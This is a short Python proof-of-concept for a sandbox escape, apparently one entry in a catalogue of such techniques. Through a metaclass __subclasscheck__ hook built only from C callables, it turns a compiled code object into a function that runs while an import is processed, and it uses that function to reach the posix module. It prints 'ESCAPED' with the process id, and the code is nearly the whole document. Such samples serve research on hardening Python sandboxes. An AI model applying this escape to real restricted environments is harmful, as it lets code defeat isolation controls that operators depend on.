# technique: inside an import a C callable makes a function
# goal: import
# source: own analysis: C callables inside an import
import abc
import collections.abc
import functools
kept, g = [], {}
code = compile('import posix; pid = posix.getpid()', 'x', 'exec')


class Meta(abc.ABCMeta):
    __subclasscheck__ = staticmethod(functools.partial(
        dict.fromkeys, map(kept.append, map(type(lambda: 0), [code], [g]))))


class Evil(collections.abc.MutableSequence, metaclass=Meta):
    pass


import array
kept[0]()
print('ESCAPED pid=%d' % g['pid'])
